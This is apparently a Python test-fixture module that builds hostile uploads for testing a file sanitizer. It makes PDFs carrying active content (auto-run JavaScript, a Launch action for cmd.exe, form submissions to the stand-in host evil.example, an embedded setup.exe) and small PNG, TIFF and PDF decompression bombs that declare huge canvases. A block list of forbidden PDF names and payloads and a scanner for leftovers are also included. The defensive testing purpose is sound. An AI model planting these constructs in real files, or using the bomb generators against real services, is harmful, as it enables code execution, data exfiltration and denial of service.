"""Hostile uploads, built byte by byte for the tests: PDFs carrying each kind of active
content, and pictures whose small files declare huge canvases (valid files: compressed
zeros, so an old decoder would really decode them)."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, String


def _js(code: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def _annotation(subtype: Name, **more: object) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=subtype, Rect=[10, 10, 60, 60], **more)


def _embedded(pdf: pikepdf.Pdf) -> pikepdf.Object:
    data = pdf.make_stream(b"MZ\x90\x00 an embedded program")
    data.Type = Name.EmbeddedFile
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("setup.exe"),
                                        EF=Dictionary(F=data)))


def _open_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(_js("app.alert('open')"))


def _document_aa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=_js("app.alert('close')"))


def _page_aa(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=_js("app.alert('page')"))


def _javascript_names(pdf: pikepdf.Pdf) -> None:
    names = pdf.Root.get("/Names") or Dictionary()
    names.JavaScript = Dictionary(Names=Array([String("init"), pdf.make_indirect(
        _js("this.submitForm('http://evil.example')"))]))
    pdf.Root.Names = names


def _annotate(pdf: pikepdf.Pdf, annotation: Dictionary) -> pikepdf.Object:
    page = pdf.pages[0].obj
    made = pdf.make_indirect(annotation)
    page.Annots = Array([*page.get("/Annots", Array()), made])
    return made


def _launch(pdf: pikepdf.Pdf) -> None:
    _annotate(pdf, _annotation(Name.Link, A=Dictionary(S=Name.Launch,
                                                       F=String("cmd.exe"))))


def _submit_form(pdf: pikepdf.Pdf) -> None:
    widget = _annotate(pdf, _annotation(Name.Widget, FT=Name.Btn, T=String("send"),
                                        A=Dictionary(S=Name.SubmitForm,
                                                     F=String("http://evil.example/"))))
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))


def _import_data(pdf: pikepdf.Pdf) -> None:
    _annotate(pdf, _annotation(Name.Link, A=Dictionary(S=Name.ImportData,
                                                       F=String("data.fdf"))))


def _rich_media(pdf: pikepdf.Pdf) -> None:
    _annotate(pdf, _annotation(Name.RichMedia, RichMediaContent=Dictionary(
        Assets=Dictionary(Names=Array([String("a.swf"), _embedded(pdf)])))))


def _embedded_files(pdf: pikepdf.Pdf) -> None:
    names = pdf.Root.get("/Names") or Dictionary()
    names.EmbeddedFiles = Dictionary(Names=Array([String("setup.exe"), _embedded(pdf)]))
    pdf.Root.Names = names
    _annotate(pdf, _annotation(Name.FileAttachment, FS=_embedded(pdf)))


def _xfa(pdf: pikepdf.Pdf) -> None:
    form = pdf.Root.get("/AcroForm") or Dictionary(Fields=Array())
    form.XFA = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root.AcroForm = form
    pdf.Root.NeedsRendering = True


ACTIVE: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "document OpenAction": _open_action, "document AA": _document_aa, "page AA": _page_aa,
    "JavaScript names": _javascript_names, "Launch": _launch, "SubmitForm": _submit_form,
    "ImportData": _import_data, "RichMedia": _rich_media, "embedded files": _embedded_files,
    "XFA": _xfa,
}
# What must not be left in a cleaned file: these names as keys or values of any object...
FORBIDDEN_NAMES = frozenset({
    "/AA", "/OpenAction", "/JavaScript", "/JS", "/Launch", "/SubmitForm", "/ImportData",
    "/RichMedia", "/RichMediaContent", "/EmbeddedFile", "/EmbeddedFiles", "/FileAttachment",
    "/EF", "/XFA", "/NeedsRendering"})
# ...nor the payloads, in any string or decoded stream.
PAYLOADS = (b"app.alert", b"evil.example", b"cmd.exe", b"setup.exe", b"data.fdf",
            b"an embedded program", b"xmlns:xdp")


def active_pdf(*kinds: str) -> bytes:
    """An A4 page carrying the active content named (every kind when none is)."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    for kind in kinds or tuple(ACTIVE):
        ACTIVE[kind](pdf)
    out = io.BytesIO()
    pdf.save(out, compress_streams=False)
    return out.getvalue()


def leftovers(pdf: bytes) -> list[str]:
    """What of FORBIDDEN_NAMES and PAYLOADS a file still holds, in any object reachable or
    not (every stream decoded, so nothing hides in a compressed object stream)."""
    found: set[str] = set()
    with pikepdf.open(io.BytesIO(pdf)) as doc:
        stack: list[object] = list(doc.objects)
        seen: set[tuple[int, int]] = set()
        while stack:
            obj = stack.pop()
            if isinstance(obj, pikepdf.Name | str) and str(obj) in FORBIDDEN_NAMES:
                found.add(str(obj))
            if isinstance(obj, pikepdf.String):
                data = bytes(obj)
                found.update(p.decode() for p in PAYLOADS if p in data)
            if not isinstance(obj, pikepdf.Object) or isinstance(obj, pikepdf.Name):
                continue
            if obj.is_indirect:
                if obj.objgen in seen:
                    continue
                seen.add(obj.objgen)
            if isinstance(obj, pikepdf.Stream):
                try:
                    data = obj.read_bytes()
                except pikepdf.PdfError:
                    data = b""
                found.update(p.decode() for p in PAYLOADS if p in data)
            if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
                stack.extend(obj.keys())
                stack.extend(obj[k] for k in obj.keys())
            elif isinstance(obj, pikepdf.Array):
                stack.extend(obj)
    return sorted(found)


def _zeros(rows: int, row_bytes: int, filtered: bool) -> bytes:
    """Compressed zero rows, made a row at a time: a huge canvas never held whole here."""
    z = zlib.compressobj(9)
    row = bytes(row_bytes + (1 if filtered else 0))
    return b"".join(_chunks(z, row, rows)) + z.flush()


def _chunks(z: zlib._Compress, row: bytes, rows: int) -> Iterator[bytes]:
    for _ in range(rows):
        yield z.compress(row)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (struct.pack(">I", len(data)) + kind + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))


def huge_png(width: int, height: int, palette: bool = True) -> bytes:
    """A valid PNG of width x height pixels (palette, or 8-bit grey), all zeros."""
    header = struct.pack(">IIBBBBB", width, height, 8, 3 if palette else 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header)
            + (_png_chunk(b"PLTE", bytes(6)) if palette else b"")
            + _png_chunk(b"IDAT", _zeros(height, width, filtered=True))
            + _png_chunk(b"IEND", b""))


def huge_tiff(width: int, height: int) -> bytes:
    """A valid little-endian TIFF of width x height 8-bit grey pixels in one deflated strip."""
    strip = _zeros(height, width, filtered=False)
    tags = [(256, 4, width), (257, 4, height), (258, 3, 8), (259, 3, 8), (262, 3, 1),
            (273, 4, 0), (277, 3, 1), (278, 4, height), (279, 4, len(strip))]
    ifd_at = 8
    data_at = ifd_at + 2 + 12 * len(tags) + 4
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, data_at if tag == 273 else value)
                       if kind == 4 else struct.pack("<HHIHH", tag, kind, 1, value, 0)
                       for tag, kind, value in tags)
    return (b"II*\x00" + struct.pack("<I", ifd_at) + struct.pack("<H", len(tags)) + entries
            + struct.pack("<I", 0) + strip)


def pdf_with_huge_image(width: int, height: int) -> bytes:
    """One A4 page drawing a width x height grey picture (deflated zeros)."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    image = pdf.make_stream(_zeros(height, width, filtered=False), Type=Name.XObject,
                            Subtype=Name.Image, Width=width, Height=height,
                            ColorSpace=Name.DeviceGray, BitsPerComponent=8,
                            Filter=Name.FlateDecode)
    page = pdf.pages[0]
    page.obj.Resources = Dictionary(XObject=Dictionary(Im0=image))
    page.obj.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()
